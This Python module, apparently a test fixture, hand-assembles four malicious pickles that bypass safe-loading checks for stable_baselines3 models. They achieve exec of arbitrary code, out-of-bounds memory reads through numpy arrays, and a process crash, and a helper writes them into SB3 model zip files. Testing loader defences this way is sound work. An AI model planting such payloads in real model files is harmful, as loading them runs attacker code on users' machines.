"""Four pickles of a few hundred bytes, each of which passes for data until it is loaded."""

import base64
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

UNIT = ("stable_baselines3.common.type_aliases", "TrainFrequencyUnit")
STATISTICS = ("stable_baselines3.common.running_mean_std", "RunningMeanStd")
CODE = "import os; os.mkdir('pwned')"


class Named(tuple[str, str]):
    """Module and name of what a pickle asks for."""


class Call:
    """A call that loading the pickle makes, or (``build``) a state that it gives to an object."""

    def __init__(self, function: Any, *given: Any, build: bool = False) -> None:
        self.function, self.given, self.build = function, given, build


def assemble(value: Any) -> bytes:
    """The opcodes that leave a value on the stack."""
    match value:
        case Named():
            return b"".join(assemble(str(part)) for part in value) + b"\x93"
        case Call(build=True):
            return assemble(value.function) + assemble(value.given[0]) + b"b"
        case Call():
            return assemble(value.function) + assemble(value.given) + b"R"
        case None:
            return b"N"
        case str():
            return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()
        case bytes():
            return b"B" + len(value).to_bytes(4, "little") + value
        case int():
            return b"J" + value.to_bytes(4, "little", signed=True)
        case dict():
            items = [item for pair in value.items() for item in pair]
            return b"}(" + b"".join(map(assemble, items)) + b"u"
        case list():
            return b"](" + b"".join(map(assemble, value)) + b"e"
        case tuple():
            return b"(" + b"".join(map(assemble, value)) + b"t"
    raise TypeError(value)


def pickled(value: Any) -> bytes:
    """A pickle of it."""
    return b"\x80\x04" + assemble(value) + b"."


def state_of(kind: tuple[str, str], **attributes: Any) -> Call:
    """The class, whose attributes are set for the whole process."""
    return Call(Named(kind), (None, attributes), build=True)


def raw_objects(buffer: bytes, offset: int) -> Call:
    """An array of one object, whose address is eight bytes of a buffer."""
    objects = Call(Named(("numpy", "dtype")), "O")
    return Call(Named(("numpy", "ndarray")), (1,), objects, buffer, offset)


def by_two_classes() -> list[Any]:
    """Runs code: ``getattr`` is an enumeration's in a check that was told so, and Python's after.

    A state turns the enumeration into a class whose members and values are all itself.
    """
    get, unit = Named(("builtins", "getattr")), Named(UNIT)
    names = ("__new__", "__globals__", "__getitem__")
    forged = state_of(
        UNIT,
        _value2member_map_=dict.fromkeys(("step", "__builtins__", "exec", CODE), unit),
        _member_map_=dict.fromkeys(names, unit),
    )
    space = Call(get, Call(get, unit, "__new__"), "__globals__")
    builtins = Call(Call(get, space, "__getitem__"), "__builtins__")
    return [forged, Call(Call(Call(get, builtins, "__getitem__"), "exec"), CODE)]


def out_of_memory() -> Any:
    """Makes an object of memory that no buffer holds: before its data a bytes object has its type.

    What lies elsewhere is reached alike.
    """
    return raw_objects(bytes(16), -24)


def by_a_state() -> list[Any]:
    """Changes a class of the whole process, before it names what any check refuses."""
    changed = state_of(STATISTICS, forged=True)
    return [changed, Named(("posix", "mkdir"))]


def of_eight_bytes() -> Call:
    """Ends the process: an object at an address that nothing lies at."""
    return Call(Named(("builtins", "set")), raw_objects(b"\x01" * 8, 0))


CRAFTED: dict[str, bytes] = {
    "two classes": pickled(by_two_classes()),
    "memory": pickled(out_of_memory()),
    "a class": pickled(by_a_state()),
    "eight bytes": pickled(of_eight_bytes()),
}


def tampered(model: Path, target: Path, settings: dict[str, Any]) -> Path:
    """A file of SB3's own form with other settings; a pickle is given as bytes."""
    with zipfile.ZipFile(model) as old, zipfile.ZipFile(target, "w") as new:
        data = json.loads(old.read("data"))
        for name, value in settings.items():
            if isinstance(value, bytes):
                value = {":type:": "?", ":serialized:": base64.b64encode(value).decode()}
            data[name] = value
        names: Sequence[str] = old.namelist()
        for name in names:
            new.writestr(name, json.dumps(data) if name == "data" else old.read(name))
    return target
